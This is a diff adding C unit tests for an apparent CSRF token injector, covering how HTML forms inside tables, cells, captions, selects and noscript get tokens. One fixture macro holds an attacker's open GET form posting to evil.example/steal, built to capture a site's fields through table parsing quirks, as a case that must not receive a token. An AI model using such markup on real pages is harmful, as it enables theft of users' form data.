@@ -401,8 +401,83 @@ static const row rows[] = {
     {"noscript style", "<noscript><style>.js{display:none}</style></noscript>" RF CL,
      "<noscript><style>.js{display:none}</style></noscript>" RF IN CL, 1},
     {"noscript end tag attrs", "<noscript>x</noscript a=b>" RF CL, "<noscript>x</noscript a=b>" RF IN CL, 1},
+
+/* The table modes. A form start tag in a table outside a cell or caption
+ * is inserted and popped at once ("in table", HTML 13.2.6.4.9): nothing
+ * becomes its child, its fields belong to it through the form element
+ * pointer only, and when the adoption agency or foster parenting moves
+ * them browsers give them to the nearest form among their ancestors. The
+ * outside review's page: an attacker's GET form left open around the
+ * table, and the site's own <a> after the real form moves the field, q
+ * and the button into it. No token there; a form in a cell, a caption or
+ * around the table keeps its own. */
+#define EG "<p>comment: <form method=get action=https://evil.example/steal><div></form><table>"
+#define SITE "<form method=post action=/a><input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
+#define SF "<form method=post action=/a>"
+#define SITE_IN SF IN "<input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
     {"table form", "<table><form method=post><tr><td><input name=a></td></tr></form></table>",
-     "<table><form method=post>" IN "<tr><td><input name=a></td></tr>" CL "</table>", 1},
+     "<table><form method=post><tr><td><input name=a></td></tr></form></table>", 0},
+    {"review table a", EG "<a><div></p>" SITE, EG "<a><div></p>" SITE, 0},
+    {"review table b", EG "<b><div></p>" SITE "</b>", EG "<b><div></p>" SITE "</b>", 0},
+    {"review table nobr", EG "<tr><nobr><div>" SITE "<nobr>", EG "<tr><nobr><div>" SITE "<nobr>", 0},
+    {"review table after cell", EG "<td></td><a><div>" SITE, EG "<td></td><a><div>" SITE, 0},
+    {"table row form", "<table><tr>" SITE, "<table><tr>" SITE, 0},
+    {"table body form", "<TABLE><TBODY>" SITE, "<TABLE><TBODY>" SITE, 0},
+    {"form in td", "<table><tr><td>" SITE "</td></tr></table>", "<table><tr><td>" SITE_IN "</td></tr></table>", 1},
+    {"form in th", "<table><thead><tr><th>" SITE "</th></tr></thead></table>",
+     "<table><thead><tr><th>" SITE_IN "</th></tr></thead></table>", 1},
+    {"form in bare td", "<table><td>" SITE, "<table><td>" SITE_IN, 1},
+    {"form in caption", "<table><caption>" SITE "</caption></table>", "<table><caption>" SITE_IN "</caption></table>",
+     1},
+    {"form around table", SF "<table><tr><td><input name=q></td></tr></table>" CL,
+     SF IN "<table><tr><td><input name=q></td></tr></table>" CL, 1},
+    {"form after table", "<table><tr><td>x</td></tr></table>" SITE, "<table><tr><td>x</td></tr></table>" SITE_IN, 1},
+    {"form after cell end", "<table><tr><td>x</td>" SITE, "<table><tr><td>x</td>" SITE, 0},
+    {"form after row end", "<table><tr><td>x</tr>" SITE, "<table><tr><td>x</tr>" SITE, 0},
+    {"form after caption end", "<table><caption>x</caption>" SITE, "<table><caption>x</caption>" SITE, 0},
+    {"form in second cell", "<table><tr><td>x<td>" SITE, "<table><tr><td>x<td>" SITE_IN, 1},
+    {"th end in td dropped", "<table><tr><td></th>" SITE, "<table><tr><td></th>" SITE_IN, 1},
+    {"td end in caption dropped", "<table><caption></td></tr>" SITE, "<table><caption></td></tr>" SITE_IN, 1},
+    {"thead end in tbody cell dropped", "<table><tr><td></thead>" SITE, "<table><tr><td></thead>" SITE_IN, 1},
+    {"tbody end closes the cell", "<table><tr><td></tbody>" SITE, "<table><tr><td></tbody>" SITE, 0},
+    {"col closes the cell", "<table><tr><td><col>" SITE, "<table><tr><td><col>" SITE, 0},
+    {"colgroup closes the caption", "<table><caption><colgroup>" SITE, "<table><caption><colgroup>" SITE, 0},
+    {"tr closes the cell", "<table><tr><td><tr>" SITE, "<table><tr><td><tr>" SITE, 0},
+    {"table in table", "<table><table>" SITE, "<table><table>" SITE, 0},
+    {"table in a cell", "<table><tr><td><table></table>" SITE, "<table><tr><td><table></table>" SITE_IN, 1},
+    {"nested cells", "<table><tr><td><table><tr><td>" SITE "</table>" SITE,
+     "<table><tr><td><table><tr><td>" SITE_IN "</table>" SITE_IN, 2},
+    {"nested table row", "<table><tr><td><table></table></td>" SITE, "<table><tr><td><table></table></td>" SITE, 0},
+    {"table end outside tables", "</table><td>" SITE, "</table><td>" SITE_IN, 1},
+    {"table in template", "<template><table></template>" SITE, "<template><table></template>" SITE_IN, 1},
+    {"table breaks out of svg", "<svg><table>" SITE, "<svg><table>" SITE, 0},
+    {"td in svg is svg", "<table><tr><td><svg><td></td></svg>" SITE, "<table><tr><td><svg><td></td></svg>" SITE_IN, 1},
+    {"form pointer from a table form", "<table><form method=post></form><tr><td>" SITE,
+     "<table><form method=post></form><tr><td>" SITE_IN, 1},
+    {"get form in table", "<table><form method=get></form></table>" SITE,
+     "<table><form method=get></form></table>" SITE_IN, 1},
+    {"select closed by a cell", "<table><tr><td><select><option>a<td>" SITE,
+     "<table><tr><td><select><option>a<td>" SITE_IN, 1},
+    {"select closed by a cell end", "<table><tr><td><select><option>a</td>" SITE,
+     "<table><tr><td><select><option>a</td>" SITE, 0},
+    {"table in select", "<table><tr><td><select><table>" SITE, "<table><tr><td><select><table>" SITE, 0},
+    {"row end in select", "<table><select></tr>" SITE, "<table><select></tr>" SITE, 0},
+    {"noscript table", "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE,
+     "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE_IN, 1},
+    {"noscript table left open", "<noscript><table></noscript>" SITE, "<noscript><table></noscript>" SITE, 0},
+    {"noscript cell end", "<table><tr><td><noscript></td></noscript>" SITE,
+     "<table><tr><td><noscript></td></noscript>" SITE, 0},
+    /* a base in a table outside a cell goes before the table: ahead of one read in a cell */
+    {"foster-parented base", "<table><tr><td>" EB "</td><base href=\"/app/\"></table>" SITE,
+     "<table><tr><td>" EB "</td><base href=\"/app/\"></table>" SITE, 0},
+    {"foster-parented base first", "<table><tr><td><base href=\"/app/\"></td>" EB "</table>" SITE,
+     "<table><tr><td><base href=\"/app/\"></td>" EB "</table>" SITE, 0},
+    {"base in a later cell", "<table><tr><td><base href=\"/app/\"><td>" EB "</table>" SITE,
+     "<table><tr><td><base href=\"/app/\"><td>" EB "</table>" SITE_IN, 1},
+#undef EG
+#undef SITE
+#undef SF
+#undef SITE_IN
     {"phpmyadmin action",
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" CL,
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" IN CL, 1},
@@ -1346,6 +1421,17 @@ static void test_status(void **state)
 	    {RF CL PF "<noscript><input type=submit formmethod=get></noscript>" CL,
 	     CSRF_INJECT_NOSCRIPT_BUTTON | CSRF_INJECT_LATE_BUTTON},
 	    {"<form id=f method=post></form><noscript><button form=f formaction=x></noscript>", CSRF_INJECT_LATE_OWNER},
+	    /* a form start tag a table holds outside a cell is popped at once */
+	    {"<table>" RF CL, CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr>" RF CL "</table>", CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr><td>" RF CL, 0},
+	    {"<table><caption>" RF CL, 0},
+	    {RF "<table><tr><td>" CL, 0},
+	    {"<table><form method=get>" CL, 0},
+	    {"<table>" EF CL, 0},
+	    {"<table><tr><td><select><table>", CSRF_INJECT_SELECT | CSRF_INJECT_STOPPED},
+	    {"<noscript><table></noscript>", CSRF_INJECT_NOSCRIPT | CSRF_INJECT_STOPPED},
+	    {"<table><tr><td><base href=/app/></td>" EB "</table>" RF CL, CSRF_INJECT_BASE},
 	};
 	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
 		const char *in = cases[i].in;
@@ -1382,13 +1468,13 @@ static void test_status(void **state)
 	assert_int_equal(csrf_inject_status(NULL), 0);
 	/* every bit has its own phrase */
 	size_t all = 0; /* an adapter's line with every phrase */
-	for (unsigned bit = 1; bit <= CSRF_INJECT_NOSCRIPT_BUTTON; bit <<= 1) {
+	for (unsigned bit = 1; bit <= CSRF_INJECT_TABLE_FORM; bit <<= 1) {
 		assert_string_not_equal(csrf_inject_status_str(bit), "unknown injector status");
 		all += strlen(csrf_inject_status_str(bit)) + 2;
 	}
 	assert_true(all < CSRF_INJECT_STATUS_TEXT_MAX);
 	assert_string_equal(csrf_inject_status_str(0), "unknown injector status");
-	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_NOSCRIPT_BUTTON << 1), "unknown injector status");
+	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_TABLE_FORM << 1), "unknown injector status");
 }
 
 /* A form longer than the hold gets no token, whatever the cuts; one that
@@ -1466,6 +1552,121 @@ static void test_long_form(void **state)
 	expect_output("plaintext", "whole", 0, &s, pt, strlen(pt), pt, strlen(pt)); /* nothing held */
 	sink_free(&s);
 	tu_guard_free(mem);
+}
+
+/* The status of in[0..len) fed in the chunks the cuts at[0..n) make. */
+static unsigned status_of(const char *in, size_t len, const size_t *at, size_t n)
+{
+	char *mem;
+	csrf_inject *inj = new_injector(&mem);
+	sink s;
+	sink_init(&s, mem);
+	size_t from = 0;
+	for (size_t k = 0; k <= n; k++) {
+		size_t to = k < n ? at[k] : len;
+		s.chunk = in + from;
+		s.chunk_len = to - from;
+		assert_int_equal(csrf_inject_feed(inj, in + from, to - from, sink_emit, &s), CSRF_OK);
+		from = to;
+	}
+	unsigned count;
+	s.chunk = NULL;
+	s.chunk_len = 0;
+	assert_int_equal(csrf_inject_finish(inj, sink_emit, &s, &count), CSRF_OK);
+	unsigned status = csrf_inject_status(inj);
+	sink_free(&s);
+	tu_guard_free(mem);
+	return status;
+}
+
+/* A held form that something other than its end tag settles (a submitter
+ * that sends it by GET, <plaintext>, a stop) near the hold's limit: too
+ * long or not is judged by its bytes up to there, so the status is the
+ * same however the stream is cut (before, fed whole it said GET_BUTTON or
+ * UNCLOSED, fed in pieces LONG_FORM). */
+static void test_long_form_stops(void **state)
+{
+	(void)state;
+	static const char *const tails[] = {"<button formmethod=get>",
+	                                    "<plaintext>",
+	                                    "<svg></p>",
+	                                    "<noscript><button formmethod=get></noscript>",
+	                                    "\x1b",
+	                                    "<select><table>"};
+	for (size_t t = 0; t < sizeof tails / sizeof tails[0]; t++) {
+		size_t tl = strlen(tails[t]);
+		const size_t fills[] = {CSRF_INJECT_HOLD_MAX - 64,     CSRF_INJECT_HOLD_MAX - tl,
+		                        CSRF_INJECT_HOLD_MAX - tl + 1, CSRF_INJECT_HOLD_MAX - tl + 2,
+		                        CSRF_INJECT_HOLD_MAX - 1,      CSRF_INJECT_HOLD_MAX,
+		                        CSRF_INJECT_HOLD_MAX + 1,      CSRF_INJECT_HOLD_MAX + 64};
+		for (size_t f = 0; f < sizeof fills / sizeof fills[0]; f++) {
+			size_t fill = fills[f], pl = strlen(PF), len = pl + fill + tl + strlen(CL);
+			char *in = malloc(len);
+			assert_non_null(in);
+			memcpy(in, PF, pl);
+			memset(in + pl, 'x', fill);
+			memcpy(in + pl + fill, tails[t], tl);
+			memcpy(in + pl + fill + tl, CL, strlen(CL));
+			unsigned whole = status_of(in, len, NULL, 0);
+			if (fill < CSRF_INJECT_HOLD_MAX - tl && (whole & CSRF_INJECT_LONG_FORM))
+				fail_msg("tail %zu, fill %zu: too long already", t, fill);
+			if (fill > CSRF_INJECT_HOLD_MAX && !(whole & CSRF_INJECT_LONG_FORM))
+				fail_msg("tail %zu, fill %zu: not too long (%#x)", t, fill, whole);
+			/* every cut around the limit and inside the tail, one at a time and all at once */
+			size_t at[96], n = 0;
+			for (size_t k = pl + fill - 8; k < len && n < 96; k++)
+				at[n++] = k;
+			for (size_t k = 0; k < n; k++) {
+				unsigned st = status_of(in, len, &at[k], 1);
+				if (st != whole)
+					fail_msg("tail %zu, fill %zu, cut at %zu: %#x, whole %#x", t, fill, at[k], st,
+					         whole);
+			}
+			unsigned bytes = status_of(in, len, at, n);
+			if (bytes != whole)
+				fail_msg("tail %zu, fill %zu, in pieces: %#x, whole %#x", t, fill, bytes, whole);
+			size_t pages[8], np = 0;
+			for (size_t k = 4096; k < len && np < 8; k += 4096)
+				pages[np++] = k;
+			unsigned paged = status_of(in, len, pages, np);
+			if (paged != whole)
+				fail_msg("tail %zu, fill %zu, in pages: %#x, whole %#x", t, fill, paged, whole);
+			free(in);
+		}
+	}
+}
+
+/* Tables nested through cells: 32 are followed, and a form in the
+ * innermost cell keeps its token; one more stops the injector (fail
+ * closed: no token from there on, and the status says why). */
+static void test_deep_tables(void **state)
+{
+	(void)state;
+	static const char open[] = "<table><tr><td>";
+	for (size_t depth = 31; depth <= 33; depth++) {
+		char in[33 * sizeof open + 64];
+		size_t n = 0;
+		for (size_t k = 0; k < depth; k++) {
+			memcpy(in + n, open, strlen(open));
+			n += strlen(open);
+		}
+		memcpy(in + n, PF CL, strlen(PF CL));
+		n += strlen(PF CL);
+		unsigned count;
+		sink s;
+		run(in, n, NULL, 0, &s, &count);
+		sink_free(&s);
+		unsigned status = status_of(in, n, NULL, 0);
+		size_t at[] = {n / 2, n - 4};
+		assert_int_equal(status_of(in, n, at, 2), status);
+		if (depth <= 32) {
+			assert_int_equal(count, 1);
+			assert_int_equal(status, 0);
+		} else {
+			assert_int_equal(count, 0);
+			assert_int_equal(status, CSRF_INJECT_TABLE_FORM | CSRF_INJECT_STOPPED);
+		}
+	}
 }
 
 /* A stopped stream passes the rest through untouched: no meta, no field. */
@@ -1698,6 +1899,8 @@ int main(void)
 	    cmocka_unit_test(test_emit_stops),
 	    cmocka_unit_test(test_port_origin),
 	    cmocka_unit_test(test_status),
+	    cmocka_unit_test(test_long_form_stops),
+	    cmocka_unit_test(test_deep_tables),
 	    cmocka_unit_test(test_long_form),
 	    cmocka_unit_test(test_stopped_passes),
 	    cmocka_unit_test(test_random_docs),
